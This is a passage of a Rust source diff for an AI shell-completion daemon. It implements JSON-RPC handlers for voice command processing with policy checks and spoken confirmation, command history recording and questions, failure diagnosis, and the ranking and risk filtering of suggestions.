+            "policy_violations": self.policy().map_or(0, |p| p.violations()),
+            "provider_latency_ms": self.latency.lock().await.snapshot(),
+            "provider_health": self.health.lock().await.snapshot(),
+        })
+    }
+
+    async fn handle_debug_bundle(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: DebugBundleRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid debug/bundle params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => DebugBundleRequest::default(),
+        };
+        let bundle = DebugBundle {
+            status: self.status().await,
+            logs: diagnostics::recent_logs().lines(),
+            traces: self.traces.lock().await.recent(params.traces),
+        };
+        JsonRpcResponse::success(serde_json::to_value(&bundle).unwrap(), request.id)
+    }
+
+    async fn handle_shutdown(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        info!("Shutdown requested");
+        JsonRpcResponse::success(Value::String("shutting down".to_string()), request.id)
+    }
+
+    async fn handle_config_reload(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        match self.reload_config().await {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(response).unwrap(), request.id)
+            }
+            Err(e) => JsonRpcResponse::error(INTERNAL_ERROR, e, request.id),
+        }
+    }
+
+    async fn handle_voice_start(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: VoiceStartRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid voice params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(INVALID_PARAMS, "Missing voice params", request.id)
+            }
+        };
+
+        if !self.config().voice.enabled {
+            return JsonRpcResponse::error(
+                INTERNAL_ERROR,
+                "Voice input is disabled. Set voice.enabled = true in config.",
+                request.id,
+            );
+        }
+
+        let cwd = self
+            .session_cwd(params.session_id.as_deref(), &params.cwd)
+            .await;
+        info!(mode = ?params.mode, cwd = %cwd, session = ?params.session_id, "Voice start requested");
+
+        // For now, voice/start requires audio data in the params.
+        // In a full implementation, the daemon would capture audio via cpal.
+        // This endpoint is designed for clients that capture audio themselves
+        // and send WAV data to the daemon for STT + restructuring.
+        JsonRpcResponse::error(
+            INTERNAL_ERROR,
+            "Voice capture requires audio data. Use voice/process with audio_data field, \
+             or use the CLI: murmur voice test",
+            request.id,
+        )
+    }
+
+    async fn handle_voice_process(
+        &self,
+        request: JsonRpcRequest,
+        frame: Option<Vec<u8>>,
+    ) -> JsonRpcResponse {
+        let params: VoiceProcessRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid voice/process params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing voice/process params",
+                    request.id,
+                )
+            }
+        };
+
+        if !self.config().voice.enabled {
+            return JsonRpcResponse::error(
+                INTERNAL_ERROR,
+                "Voice input is disabled. Set voice.enabled = true in config.",
+                request.id,
+            );
+        }
+
+        // Decode base64 audio data, unless it came as a binary frame
+        use base64::Engine;
+        let audio_data = match frame {
+            Some(audio) => audio,
+            None if params.audio_data.is_empty() => {
+                return JsonRpcResponse::error(INVALID_PARAMS, "Missing audio_data", request.id)
+            }
+            None => match base64::engine::general_purpose::STANDARD.decode(&params.audio_data) {
+                Ok(data) => data,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid base64 audio_data: {e}"),
+                        request.id,
+                    )
+                }
+            },
+        };
+
+        let cwd = self
+            .session_cwd(params.session_id.as_deref(), &params.cwd)
+            .await;
+        self.process_voice(
+            &audio_data,
+            params.mode,
+            &cwd,
+            params.shell.as_deref(),
+            params.session_id.as_deref(),
+            request.id,
+        )
+        .await
+    }
+
+    async fn handle_voice_upload_begin(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: VoiceUploadBeginRequest =
+            match serde_json::from_value(request.params.unwrap_or_default()) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid voice/upload_begin params: {e}"),
+                        request.id,
+                    )
+                }
+            };
+        if !self.config().voice.enabled {
+            return JsonRpcResponse::error(
+                INTERNAL_ERROR,
+                "Voice input is disabled. Set voice.enabled = true in config.",
+                request.id,
+            );
+        }
+
+        let begun =
+            self.uploads
+                .lock()
+                .await
+                .begin(params.total_bytes, params.crc32, self.clock.now());
+        match begun {
+            Ok(upload_id) => {
+                debug!(
+                    upload_id,
+                    total_bytes = params.total_bytes,
+                    "Voice upload started"
+                );
+                let response = VoiceUploadBeginResponse {
+                    upload_id,
+                    max_chunk_bytes: upload::MAX_CHUNK_BYTES,
+                };
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(e) => JsonRpcResponse::error(INVALID_PARAMS, e.to_string(), request.id),
+        }
+    }
+
+    async fn handle_voice_upload_chunk(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: VoiceUploadChunkRequest =
+            match serde_json::from_value(request.params.unwrap_or_default()) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid voice/upload_chunk params: {e}"),
+                        request.id,
+                    )
+                }
+            };
+        use base64::Engine;
+        let data = match base64::engine::general_purpose::STANDARD.decode(&params.data) {
+            Ok(data) => data,
+            Err(e) => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    format!("Invalid base64 data: {e}"),
+                    request.id,
+                )
+            }
+        };
+
+        let appended = self.uploads.lock().await.chunk(
+            params.upload_id,
+            params.offset,
+            &data,
+            params.crc32,
+            self.clock.now(),
+        );
+        match appended {
+            Ok(received) => {
+                let response = VoiceUploadChunkResponse { received };
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(e) => JsonRpcResponse::error(INVALID_PARAMS, e.to_string(), request.id),
+        }
+    }
+
+    async fn handle_voice_upload_end(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: VoiceUploadEndRequest =
+            match serde_json::from_value(request.params.unwrap_or_default()) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid voice/upload_end params: {e}"),
+                        request.id,
+                    )
+                }
+            };
+        let finished = self
+            .uploads
+            .lock()
+            .await
+            .finish(params.upload_id, self.clock.now());
+        match finished {
+            Ok(audio_data) => {
+                let cwd = self
+                    .session_cwd(params.session_id.as_deref(), &params.cwd)
+                    .await;
+                self.process_voice(
+                    &audio_data,
+                    params.mode,
+                    &cwd,
+                    params.shell.as_deref(),
+                    params.session_id.as_deref(),
+                    request.id,
+                )
+                .await
+            }
+            Err(e) => JsonRpcResponse::error(INVALID_PARAMS, e.to_string(), request.id),
+        }
+    }
+
+    /// Run audio through STT and restructuring, then apply the command
+    /// policy and speak or announce the result. Progress events and any
+    /// confirmation are tagged with `session`.
+    async fn process_voice(
+        &self,
+        audio_data: &[u8],
+        mode: VoiceMode,
+        cwd: &str,
+        shell: Option<&str>,
+        session: Option<&str>,
+        id: RequestId,
+    ) -> JsonRpcResponse {
+        info!(
+            mode = ?mode,
+            audio_bytes = audio_data.len(),
+            "Processing voice audio"
+        );
+
+        self.set_voice_active(session, true);
+        let report = |stage, percent, elapsed: std::time::Duration| {
+            self.events.publish(DaemonEvent::VoiceProgress {
+                stage,
+                percent,
+                elapsed_ms: elapsed.as_millis() as u64,
+                session_id: session.map(String::from),
+            });
+        };
+        let result = self
+            .voice()
+            .process_audio_with_progress(audio_data, mode, cwd, shell, &report)
+            .await;
+        self.set_voice_active(session, false);
+
+        match result {
+            Ok(mut result) => {
+                info!(
+                    engine = %result.engine,
+                    latency_ms = result.latency_ms,
+                    confidence = result.confidence,
+                    "Voice processing complete"
+                );
+                if result.mode == VoiceMode::Command {
+                    if let Some(policy) = self.policy() {
+                        if !policy.permit(&result.output, "voice") {
+                            return JsonRpcResponse::error(
+                                COMMAND_NOT_PERMITTED,
+                                format!("Command not permitted by policy: {}", result.output),
+                                id,
+                            );
+                        }
+                    }
+                    self.apply_execution_policy(&mut result, session).await;
+                }
+                if let Some(ref confirmation) = result.confirmation {
+                    // The confirmation question replaces the normal readout
+                    self.speak(&confirmation.prompt);
+                } else {
+                    let speak = match result.mode {
+                        VoiceMode::Command => self.config().tts.speak_voice_command,
+                        VoiceMode::Natural => self.config().tts.speak_voice_natural,
+                    };
+                    if speak {
+                        self.speak(&result.output);
+                    }
+                }
+                self.notifier().notify(
+                    NotifyKind::Voice,
+                    std::time::Duration::from_millis(result.latency_ms),
+                    "murmur: voice result",
+                    &result.output,
+                );
+                JsonRpcResponse::success(serde_json::to_value(&result).unwrap(), id)
+            }
+            Err(e) => JsonRpcResponse::error(INTERNAL_ERROR, e.to_string(), id),
+        }
+    }
+
+    /// Classify a voice command and decide whether the client may run it
+    /// directly or must first get a spoken confirmation. The strictest
+    /// policy of the command's sensitive categories applies. Only
+    /// `session` can answer the confirmation.
+    async fn apply_execution_policy(&self, result: &mut VoiceResult, session: Option<&str>) {
+        result.risk = safety::classify(&result.output);
+        result.sensitive = safety::sensitive(&result.output);
+        let config = self.config();
+        if !config.voice.auto_execute {
+            return;
+        }
+        let policy = result
+            .sensitive
+            .iter()
+            .map(|category| config.voice.policy(*category))
+            .max()
+            .unwrap_or(ConfirmPolicy::Allow);
+        let challenge = match policy {
+            ConfirmPolicy::Allow => {
+                result.execute = true;
+                return;
+            }
+            ConfirmPolicy::Block => {
+                info!(command = %result.output, sensitive = ?result.sensitive, "Sensitive voice command left for review");
+                return;
+            }
+            ConfirmPolicy::Confirm => None,
+            ConfirmPolicy::Word => {
+                use std::hash::BuildHasher;
+                let seed =
+                    std::collections::hash_map::RandomState::new().hash_one(self.clock.now());
+                Some(murmur_voice::challenge_word(seed).to_string())
+            }
+        };
+
+        let id = self.next_confirmation_id.fetch_add(1, Ordering::Relaxed);
+        let timeout = config.voice.confirm_timeout_secs;
+        let now = self.clock.now();
+        let mut pending = self.confirmations.lock().await;
+        pending.retain(|_, p| p.expires_at > now);
+        pending.insert(
+            id,
+            PendingConfirmation {
+                command: result.output.clone(),
+                challenge: challenge.clone(),
+                expires_at: now + std::time::Duration::from_secs(timeout),
+                session_id: session.map(String::from),
+            },
+        );
+        info!(id, command = %result.output, sensitive = ?result.sensitive, "Sensitive voice command needs confirmation");
+        result.confirmation = Some(ConfirmationPrompt {
+            id,
+            prompt: match &challenge {
+                Some(word) => murmur_voice::challenge_prompt(&result.output, word),
+                None => murmur_voice::confirmation_prompt(&result.output),
+            },
+            challenge,
+            expires_in_secs: timeout,
+        });
+    }
+
+    async fn handle_voice_confirm(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: VoiceConfirmRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid voice/confirm params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing voice/confirm params",
+                    request.id,
+                )
+            }
+        };
+
+        // Each prompt can be answered once; a misheard reply means asking
+        // again. Another pane's prompt is left for that pane.
+        let pending = {
+            let mut confirmations = self.confirmations.lock().await;
+            match confirmations.get(&params.id) {
+                Some(p) if p.session_id.is_some() && p.session_id != params.session_id => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Confirmation {} belongs to another session", params.id),
+                        request.id,
+                    );
+                }
+                _ => confirmations.remove(&params.id),
+            }
+        };
+        let Some(pending) = pending.filter(|p| p.expires_at > self.clock.now()) else {
+            return JsonRpcResponse::error(
+                INVALID_PARAMS,
+                format!("Unknown or expired confirmation: {}", params.id),
+                request.id,
+            );
+        };
+
+        let transcript = match (params.transcript, params.audio_data) {
+            (Some(text), _) => text,
+            (None, Some(audio)) => {
+                use base64::Engine;
+                let audio = match base64::engine::general_purpose::STANDARD.decode(&audio) {
+                    Ok(data) => data,
+                    Err(e) => {
+                        return JsonRpcResponse::error(
+                            INVALID_PARAMS,
+                            format!("Invalid base64 audio_data: {e}"),
+                            request.id,
+                        )
+                    }
+                };
+                match self.voice().transcribe(&audio).await {
+                    Ok((stt, _engine)) => stt.transcript,
+                    Err(e) => {
+                        return JsonRpcResponse::error(INTERNAL_ERROR, e.to_string(), request.id)
+                    }
+                }
+            }
+            (None, None) => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "voice/confirm needs audio_data or transcript",
+                    request.id,
+                )
+            }
+        };
+
+        let confirmed = match &pending.challenge {
+            Some(word) => murmur_voice::says_challenge(&transcript, word),
+            None => murmur_voice::parse_confirmation(&transcript) == Some(true),
+        };
+        info!(id = params.id, confirmed, transcript = %transcript, "Voice confirmation answered");
+        self.speak(if confirmed { "Running." } else { "Cancelled." });
+
+        let result = VoiceConfirmResult {
+            command: pending.command,
+            transcript,
+            confirmed,
+        };
+        JsonRpcResponse::success(serde_json::to_value(&result).unwrap(), request.id)
+    }
+
+    async fn handle_voice_status(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let status = self.voice().status();
+        JsonRpcResponse::success(serde_json::to_value(&status).unwrap(), request.id)
+    }
+
+    async fn handle_voice_selftest(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: VoiceSelftestRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid voice/selftest params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => VoiceSelftestRequest::default(),
+        };
+
+        // Synthesize at the backend's default rate and voice, which STT
+        // engines handle best, even when spoken feedback is off
+        let speaker = Speaker::new(&self.config().tts.engine, None, None)
+            .map_err(|e| debug!(error = %e, "No TTS command for synthesizing test audio"))
+            .ok();
+        let corpus_dir = params.corpus_dir.as_deref().map(std::path::Path::new);
+
+        self.set_voice_active(None, true);
+        let result = self
+            .voice()
+            .selftest(corpus_dir, params.engine.as_deref(), speaker.as_ref())
+            .await;
+        self.set_voice_active(None, false);
+
+        match result {
+            Ok(report) => {
+                info!(
+                    cases = report.cases.len(),
+                    failed = report.cases.iter().filter(|c| !c.passed()).count(),
+                    skipped = report.skipped.len(),
+                    "Voice selftest complete"
+                );
+                JsonRpcResponse::success(serde_json::to_value(&report).unwrap(), request.id)
+            }
+            Err(e) => JsonRpcResponse::error(INTERNAL_ERROR, e.to_string(), request.id),
+        }
+    }
+
+    async fn handle_context_update(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: ContextUpdateRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid context/update params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing context/update params",
+                    request.id,
+                )
+            }
+        };
+
+        let params = match self.hooks() {
+            Some(hooks) => match hooks.on_history_record(params).await {
+                Some(params) => params,
+                None => {
+                    return JsonRpcResponse::success(
+                        serde_json::json!({"recorded": false}),
+                        request.id,
+                    )
+                }
+            },
+            None => params,
+        };
+        let host = self.remote_host(params.host.as_deref()).map(String::from);
+        info!(
+            source = %params.source,
+            command = %params.command,
+            cwd = %params.cwd,
+            exit_code = params.exit_code,
+            host = host.as_deref().unwrap_or("local"),
+            suggested_by = params.suggested_by.as_deref(),
+            "Recording cross-tool command"
+        );
+
+        if let Some(ref id) = params.session_id {
+            self.sessions
+                .lock()
+                .await
+                .touch(id, self.clock.unix_now())
+                .ran(&params.command, &params.cwd, params.suggested_by.is_some());
+        }
+        {
+            let mut acceptance = self.acceptance.lock().await;
+            // A watermarked command is known to be an accepted suggestion
+            match params.suggested_by {
+                Some(_) => acceptance.accepted(&params.command),
+                None => acceptance.ran(&params.command),
+            }
+        }
+        self.shadow_ran(&params.command, &params.cwd).await;
+        if host.is_none() {
+            self.invalidate_after(&params.command, &params.cwd).await;
+        }
+        {
+            let mut history = self.history.lock().await;
+            history.record_update(params, host);
+            if let Some(entry) = history.list(None, 1).first() {
+                self.sequences.lock().await.observe(entry);
+                self.prefixes.lock().await.observe(&entry.command);
+                self.events
+                    .publish(DaemonNotification::HistoryUpdated((*entry).clone()));
+            }
+        }
+
+        JsonRpcResponse::success(serde_json::json!({"recorded": true}), request.id)
+    }
+
+    /// Forget what `command`, run in `cwd`, made stale: after a checkout
+    /// or pull, the repository's fingerprints and cached completions; after
+    /// a `cd`, fingerprints, so the new directory is looked at afresh.
+    async fn invalidate_after(&self, command: &str, cwd: &str) {
+        match fingerprint::change(command) {
+            Some(Change::Repository) => {
+                let root = fingerprint::repository_root(cwd)
+                    .and_then(|root| root.to_str().map(String::from))
+                    .unwrap_or_else(|| cwd.to_string());
+                self.fingerprints.forget_under(&root);
+                let dropped = self.cache.lock().await.invalidate_under(&root);
+                debug!(root = %root, dropped, "Repository changed, cache invalidated");
+            }
+            Some(Change::Directory) => self.fingerprints.forget_all(),
+            None => {}
+        }
+    }
+
+    async fn handle_session_open(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: SessionOpenRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid session/open params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => SessionOpenRequest::default(),
+        };
+        let shell_pid = params.shell_pid;
+        let session_id = self
+            .sessions
+            .lock()
+            .await
+            .open(params, self.clock.unix_now());
+        debug!(session = %session_id, shell_pid, "Session opened");
+        JsonRpcResponse::success(
+            serde_json::to_value(SessionOpenResponse { session_id }).unwrap(),
+            request.id,
+        )
+    }
+
+    async fn handle_history_list(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: HistoryListRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid history/list params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => HistoryListRequest {
+                cwd: None,
+                host: None,
+                limit: 50,
+            },
+        };
+
+        let history = self.history.lock().await;
+        let entries =
+            history.list_on_host(params.host.as_deref(), params.cwd.as_deref(), params.limit);
+        let entries: Vec<_> = entries.into_iter().cloned().collect();
+
+        JsonRpcResponse::success(serde_json::to_value(&entries).unwrap(), request.id)
+    }
+
+    async fn handle_history_ask(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: HistoryAskRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid history/ask params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing history/ask params",
+                    request.id,
+                )
+            }
+        };
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+        info!(question = %params.question, "Answering history question");
+        match ask::run(&chain, self, &self.history, &params, self.clock.unix_now()).await {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    async fn handle_diagnose(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: DiagnoseRequest = match request.params {
+            Some(params) => match serde_json::from_value(params) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid diagnose params: {e}"),
+                        request.id,
+                    )
+                }
+            },
+            None => {
+                return JsonRpcResponse::error(
+                    INVALID_PARAMS,
+                    "Missing diagnose params",
+                    request.id,
+                )
+            }
+        };
+
+        match self.diagnose(&params).await {
+            Ok(response) => {
+                JsonRpcResponse::success(serde_json::to_value(&response).unwrap(), request.id)
+            }
+            Err(message) => JsonRpcResponse::error(INTERNAL_ERROR, message, request.id),
+        }
+    }
+
+    /// Diagnose a failed command, unless the failure was deliberate, was
+    /// diagnosed recently, or the rate limit is reached.
+    async fn diagnose(&self, params: &DiagnoseRequest) -> Result<DiagnoseResponse, String> {
+        let skipped = |reason: &str| DiagnoseResponse {
+            skipped: Some(reason.to_string()),
+            ..Default::default()
+        };
+        if let Some(reason) = diagnose::skip_reason(params.exit_code) {
+            return Ok(skipped(reason));
+        }
+        if params.command.trim().is_empty() {
+            return Ok(skipped("empty command"));
+        }
+
+        let now = self.clock.unix_now();
+        let signature = diagnose::error_signature(params.exit_code, params.stderr.as_deref());
+        let key = Diagnoses::key(&params.command, &signature);
+        match self.diagnoses.lock().await.lookup(key, now) {
+            Lookup::Cached(response) => return Ok(response),
+            Lookup::RateLimited => {
+                debug!(command = %params.command, "Diagnosis rate limited");
+                return Ok(skipped("rate limited"));
+            }
+            Lookup::Diagnose => {}
+        }
+
+        let chain = self.providers().get_chain(&RouteDecision::Shell);
+        let project = if self.remote_host(params.host.as_deref()).is_none()
+            && self.config().context.project_detection
+        {
+            murmur_context::ProjectDetector::detect(&params.cwd).await
+        } else {
+            None
+        };
+
+        info!(command = %params.command, exit_code = params.exit_code, "Diagnosing failed command");
+        let mut response = diagnose::diagnose(&chain, self, params, project.as_ref()).await?;
+        if let Some(policy) = self.policy() {
+            // Keep the explanation, drop the fix
+            if response
+                .fix
+                .as_deref()
+                .is_some_and(|fix| !policy.permit(fix, "diagnose"))
+            {
+                response.fix = None;
+            }
+        }
+        self.diagnoses
+            .lock()
+            .await
+            .insert(key, response.clone(), now);
+        Ok(response)
+    }
+
+    async fn handle_history_import(&self, request: JsonRpcRequest) -> JsonRpcResponse {
+        let params: HistoryImportRequest =
+            match serde_json::from_value(request.params.unwrap_or_default()) {
+                Ok(p) => p,
+                Err(e) => {
+                    return JsonRpcResponse::error(
+                        INVALID_PARAMS,
+                        format!("Invalid history/import params: {e}"),
+                        request.id,
+                    )
+                }
+            };
+
+        let received = params.entries.len();
+        let result = {
+            let mut history = self.history.lock().await;
+            let result = history.import(params.entries, params.undated);
+            if matches!(result, Ok(n) if n > 0) {
+                // Imported entries are older than what was learned so far
+                let (sequences, prefixes) = train_models(&history);
+                *self.sequences.lock().await = sequences;
+                *self.prefixes.lock().await = prefixes;
+            }
+            result
+        };
+        match result {
+            Ok(imported) => {
+                info!(received, imported, "Imported history entries");
+                JsonRpcResponse::success(
+                    serde_json::to_value(HistoryImportResponse { imported }).unwrap(),
+                    request.id,
+                )
+            }
+            Err(e) => JsonRpcResponse::error(
+                INTERNAL_ERROR,
+                format!("History import failed: {e}"),
+                request.id,
+            ),
+        }
+    }
+}
+
+/// Answer a history question without a running daemon, reading the state
+/// database directly.
+pub async fn ask_direct(
+    config: &Config,
+    request: &HistoryAskRequest,
+) -> Result<HistoryAskResponse, String> {
+    let path = crate::server::state_path(config)
+        .ok_or("History persistence is disabled and the daemon isn't running")?;
+    let store =
+        Store::open(std::path::Path::new(&path), &SystemClock).map_err(|e| e.to_string())?;
+    // Searches go to the store; the in-memory buffer isn't used
+    let history = CommandHistory::with_store(0, store).map_err(|e| e.to_string())?;
+    let chain = Providers::from_config(config).get_chain(&RouteDecision::Shell);
+    ask::run(
+        &chain,
+        &Unmetered,
+        &Mutex::new(history),
+        request,
+        SystemClock.unix_now(),
+    )
+    .await
+}
+
+#[async_trait::async_trait]
+impl Admit for RequestHandler {
+    async fn admit(&self, provider: &dyn Provider) -> bool {
+        let admitted = self.spend_budget(provider).await;
+        if !admitted {
+            debug!(
+                provider = provider.name(),
+                "Daily budget exhausted, skipping provider"
+            );
+        }
+        admitted
+    }
+}
+
+/// Answer a query without a running daemon, calling the configured
+/// providers directly. Used by `murmur query` so launchers work even when
+/// the daemon isn't started; no budget or cache applies, but restricted
+/// mode does.
+pub async fn query_direct(
+    config: &Config,
+    request: &QueryRequest,
+) -> Result<QueryResponse, String> {
+    let chain = Providers::from_config(config).get_chain(&RouteDecision::Shell);
+    let mut response = query::run(&chain, &Unmetered, request).await?;
+    if let Some(policy) = CommandPolicy::from_config(&config.policy) {
+        let provider = &response.provider;
+        response
+            .items
+            .retain(|item| policy.permit(&item.command, provider));
+    }
+    Ok(response)
+}
+
+/// Recent history the ranking signals are computed from.
+const RANKING_HISTORY: usize = 500;
+
+/// Recent cwd history scanned for failed test runs on an empty prompt.
+const PROACTIVE_HISTORY: usize = 20;
+
+/// History entries the sequence and prefix models are trained on at
+/// startup.
+const SEQUENCE_TRAINING_ENTRIES: usize = 20_000;
+
+/// History entries abbreviations are learned from.
+const ABBR_LEARNING_ENTRIES: usize = 5_000;
+
+fn train_models(history: &CommandHistory) -> (SequenceModel, PrefixModel) {
+    match history.recent(SEQUENCE_TRAINING_ENTRIES) {
+        Ok(mut entries) => {
+            entries.reverse();
+            let sequences = SequenceModel::train(&entries);
+            let prefixes = PrefixModel::train(&entries);
+            debug!(
+                entries = entries.len(),
+                commands = sequences.len(),
+                prefixes = prefixes.len(),
+                "Trained command sequence and prefix models"
+            );
+            (sequences, prefixes)
+        }
+        Err(e) => {
+            warn!(error = %e, "Failed to load history for sequence and prefix models");
+            (SequenceModel::new(), PrefixModel::new())
+        }
+    }
+}
+
+/// Apply per-request limits: drop items below `min_score`, order by score
+/// (highest first, stable for ties) and keep at most `max_items`.
+fn post_process(
+    mut items: Vec<CompletionItem>,
+    max_items: usize,
+    min_score: f64,
+) -> Vec<CompletionItem> {
+    items.retain(|item| item.score >= min_score);
+    items.sort_by(|a, b| b.score.total_cmp(&a.score));
+    items.truncate(max_items);
+    items
+}
+
+/// Put each item in a group by where it came from, and list the groups in
+/// the order their first items appear.
+fn assign_groups(items: &mut [CompletionItem]) -> Vec<GroupHeader> {
+    let mut groups: Vec<GroupHeader> = Vec::new();
+    for item in items.iter_mut() {
+        let group = match item.metadata.origin {
+            Some(CompletionOrigin::History) => CompletionGroup::History,
+            Some(CompletionOrigin::Context) => CompletionGroup::Project,
+            _ if item.kind == CompletionKind::Path => CompletionGroup::Paths,
+            _ => CompletionGroup::Ai,
+        };
+        item.metadata.group = Some(group);
+        match groups.iter_mut().find(|header| header.group == group) {
+            Some(header) => header.count += 1,
+            None => groups.push(GroupHeader {
+                group,
+                label: group.label().to_string(),
+                count: 1,
+            }),
+        }
+    }
+    groups
+}
+
+/// Mark provider-generated `items` with their source, then assess them.
+fn annotate_generated(
+    items: &mut [CompletionItem],
+    provider: &str,
+    cwd: &str,
+    context: &ShellContext,
+) {
+    for item in items.iter_mut() {
+        item.metadata
+            .provider
+            .get_or_insert_with(|| provider.to_string());
+        item.metadata.origin.get_or_insert(CompletionOrigin::Llm);
+    }
+    // The daemon can't see what is installed on a remote host
+    let verify_in = context.remote_host.is_none().then_some(cwd);
+    assess(items, verify_in);
+}
+
+/// Fill in each item's risk and, when `verify_in` gives the local cwd,
+/// whether its program is installed.
+fn assess(items: &mut [CompletionItem], verify_in: Option<&str>) {
+    for item in items.iter_mut() {
+        item.metadata.risk = Some(safety::classify(&item.text));
+        item.metadata.verified =
+            verify_in.and_then(|cwd| verify::program_available(&item.text, cwd));
+    }
+}
+
+/// Apply the configured risk and verification filters.
+fn filter_items(mut items: Vec<CompletionItem>, config: &CompletionConfig) -> Vec<CompletionItem> {
+    if let Some(max_risk) = config.max_risk {
+        items.retain(|item| item.metadata.risk.unwrap_or_default() <= max_risk);
+    }
+    if config.hide_unverified {
+        items.retain(|item| item.metadata.verified != Some(false));
+    }
+    items
+}
+
+/// The request narrowed to the command the cursor is in, and the line
+/// before it, when the cursor is past a `&&`, `;`, `|` or `(`. Only with
+/// the cursor at the end of the line, since suggestions replace the whole
+/// line.
+pub(crate) fn scope_to_segment(params: &CompletionRequest) -> Option<(CompletionRequest, String)> {
+    let input = &params.input;
+    if params.cursor_pos < input.chars().count() {
+        return None;
+    }
+    let start = lexer::segment_start(input);
+    if start == 0 {
+        return None;
+    }
+    let mut scoped = params.clone();
+    scoped.input = input[start..].to_string();
+    scoped.cursor_pos = scoped.input.chars().count();
+    Some((scoped, input[..start].to_string()))
+}
+
+/// Put the earlier part of the line back in front of suggestions made for
+/// the command under the cursor. Models sometimes echo the whole line.
+fn rejoin(mut items: Vec<CompletionItem>, context: &ShellContext) -> Vec<CompletionItem> {
+    if let Some(ref prefix) = context.line_prefix {
+        for item in &mut items {
+            if !item.text.starts_with(prefix.trim_end()) {
+                item.text = format!("{prefix}{}", item.text.trim_start());
+            }
+        }
+    }
+    items
+}
+
+/// Drop suggestions that can't work in the shell's environment, such as
+/// `brew` or another distribution's package manager inside a container, or
+/// global installs when toolchains come from a Nix dev shell.
+fn drop_unavailable(mut items: Vec<CompletionItem>, context: &ShellContext) -> Vec<CompletionItem> {
+    if let Some(ref container) = context.container {
+        items.retain(|item| !container.rejects(&item.text));
+    }
+    if let Some(ref dev_env) = context.dev_env {
+        items.retain(|item| !dev_env.rejects(&item.text));
+    }
+    items
+}
+
+/// Drop suggestions restricted mode doesn't allow; `source` is logged with
+/// each one.
+fn enforce_policy(
+    mut items: Vec<CompletionItem>,
+    policy: Option<&CommandPolicy>,
+    source: &str,
+) -> Vec<CompletionItem> {
